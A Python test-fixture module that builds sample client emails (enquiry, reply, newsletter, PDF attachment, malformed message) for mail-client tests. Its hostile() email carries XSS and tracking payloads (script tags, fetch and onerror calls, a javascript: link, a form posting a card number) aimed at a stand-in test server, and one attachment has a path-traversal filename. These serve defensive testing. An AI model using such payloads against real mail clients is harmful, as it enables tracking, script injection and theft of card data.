"""A small realistic set of client mail for the record pages, as real mail programs write it:
a new client's first email, their reply, an HTML newsletter with remote and inline (cid:)
images, a message with a PDF attachment, a malformed message, and a hostile HTML email.

`remote` is the base URL of a server standing in for the senders' web servers (the tests
count the requests it gets); nothing here reaches the network.
"""

from __future__ import annotations

import datetime as dt
import email.policy
import email.utils
from email.message import EmailMessage

PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x8f\xb5\xd3\x11\x00\x00\x00\x00IEND\xaeB`\x82")
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n" + bytes(range(256)) * 8


def _ago(hours: float) -> str:
    """A Date header `hours` before now (auto-replies go only to recent mail)."""
    return email.utils.format_datetime(dt.datetime.now(dt.timezone.utc) - dt.timedelta(hours=hours))


def _message(sender: str, subject: str, date: str, message_id: str, to: str, **headers) -> EmailMessage:
    msg = EmailMessage(policy=email.policy.SMTP)
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = date
    msg["Message-ID"] = message_id
    msg["Return-Path"] = "<" + email.utils.parseaddr(sender)[1] + ">"
    for name, value in headers.items():
        msg[name.replace("_", "-")] = value
    return msg


def _bytes(msg: EmailMessage) -> bytes:
    for n, part in enumerate(p for p in msg.walk() if p.is_multipart()):
        part.set_boundary(f"=_set_{n}")
    return msg.as_bytes(policy=email.policy.SMTP)


def new_client(to: str) -> bytes:
    msg = _message("Ava Martin <ava.martin@example.com>", "Wedding photography on 14 June",
                   _ago(6), "<first.ava@example.com>", to)
    msg.set_content("Hello,\n\nwe are getting married on 14 June in Bath and would love you to photograph the day.\n"
                    "Are you free, and what do your packages cost?\n\nBest wishes,\nAva Martin\n")
    return _bytes(msg)


def reply(to: str) -> bytes:
    msg = _message("Ava Martin <ava.martin@example.com>", "Re: Wedding photography on 14 June",
                   _ago(5), "<second.ava@example.com>", to,
                   In_Reply_To="<first.ava@example.com>", References="<first.ava@example.com>")
    msg.set_content("Hi again,\n\nwe also need someone for the rehearsal dinner on 13 June. Could you do both?\n\n"
                    "Ava\n\n> we are getting married on 14 June in Bath\n")
    return _bytes(msg)


def newsletter(to: str, remote: str) -> bytes:
    msg = _message("Studio Supplies <news@supplies.example>", "Spring offers: lenses and backdrops",
                   _ago(4), "<spring.2026@supplies.example>", to,
                   List_Id="Studio Supplies news <news.supplies.example>",
                   List_Unsubscribe="<https://supplies.example/unsubscribe>", Precedence="bulk")
    msg.set_content("Spring offers: 20% off lenses and backdrops. https://supplies.example/spring\n")
    msg.add_alternative(
        '<!DOCTYPE html><html><head><title>Spring</title></head><body>'
        '<table width="100%" bgcolor="#f4f1ea"><tr><td align="center">'
        '<img src="cid:logo@supplies.example" alt="Studio Supplies" width="120">'
        '<h1 style="color:#7a4b1e;font-family:Georgia,serif">Spring offers</h1>'
        f'<img src="{remote}/banner.jpg" alt="Spring banner" width="480">'
        '<p style="font-size:16px">20% off <b>lenses</b> and <i>backdrops</i> until 31 March.</p>'
        '<p><a href="https://supplies.example/spring">See the offers</a></p>'
        f'<img src="{remote}/open-tracking.gif" width="1" height="1" alt="">'
        '</td></tr></table></body></html>', subtype="html")
    msg.get_payload()[1].add_related(PNG, maintype="image", subtype="png", cid="<logo@supplies.example>")
    return _bytes(msg)


def with_attachment(to: str) -> bytes:
    msg = _message("Noah Nguyen <noah.nguyen@example.org>", "Signed contract for the portrait session",
                   _ago(3), "<contract.noah@example.org>", to)
    msg.set_content("Hello,\n\nplease find the signed contract attached.\n\nKind regards,\nNoah Nguyen\n")
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="../../Contract (signed).pdf")
    return _bytes(msg)


def malformed(to: str) -> bytes:
    """A multipart with no boundary parameter, a bad base64 body and a broken encoded word,
    as a broken mail merge sends it."""
    return (f"From: =?utf-8?B?Qm9ya2Vk?= <bookings@broken-merge.example>\r\nTo: {to}\r\n"
            "Subject: =?utf-8?Q?Booking_confirmation_=E2=80?=\r\n"
            f"Date: {_ago(2)}\r\n"
            "Message-ID: <broken.1@broken-merge.example>\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/mixed\r\n\r\n--zzz\r\nContent-Type: text/plain; charset=utf-8\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\nWW91ciBib29raW5nIGlzIGNvbmZpcm1lZC4=====\r\n\r\n"
            "Please confirm your booking for 12 April.\r\n--zzz--\r\n").encode()


def hostile(to: str, remote: str) -> bytes:
    """Every trick a hostile HTML email tries, each pointing at `remote`."""
    msg = _message("Prize Team <winner@hostile.example>", "You have won a free photo shoot",
                   _ago(1), "<hostile.1@hostile.example>", to)
    msg.set_content("Claim your prize.\n")
    msg.add_alternative(
        '<html><head>'
        f'<meta http-equiv="refresh" content="0;url={remote}/meta-refresh">'
        f'<link rel="stylesheet" href="{remote}/style.css">'
        f'<style>body {{ background: url({remote}/style-block-bg.png) }} @import url({remote}/import.css);</style>'
        f'<script src="{remote}/script.js"></script>'
        f'<script>document.title = "pwned"; fetch("{remote}/fetch"); alert("script ran")</script>'
        '</head><body>'
        f'<img src="{remote}/remote-image.png" alt="remote">'
        f'<img src="x" onerror="fetch(\'{remote}/onerror\'); alert(\'onerror ran\')">'
        f'<p style="background-image: url({remote}/css-url.png)">Congratulations!</p>'
        f'<div style="background: url(\'{remote}/css-background.png\')">Claim now</div>'
        '<a id="js-link" href="javascript:alert(\'javascript link ran\')">Click to claim</a>'
        f'<form id="prize-form" action="{remote}/form" method="post"><input name="card" value="1234">'
        '<button type="submit">Send my card number</button></form>'
        f'<iframe src="{remote}/iframe"></iframe><object data="{remote}/object"></object>'
        f'<svg><image href="{remote}/svg-image.png"></image></svg>'
        f'<video poster="{remote}/poster.png"></video><body onload="alert(\'onload ran\')">'
        '</body></html>', subtype="html")
    return _bytes(msg)
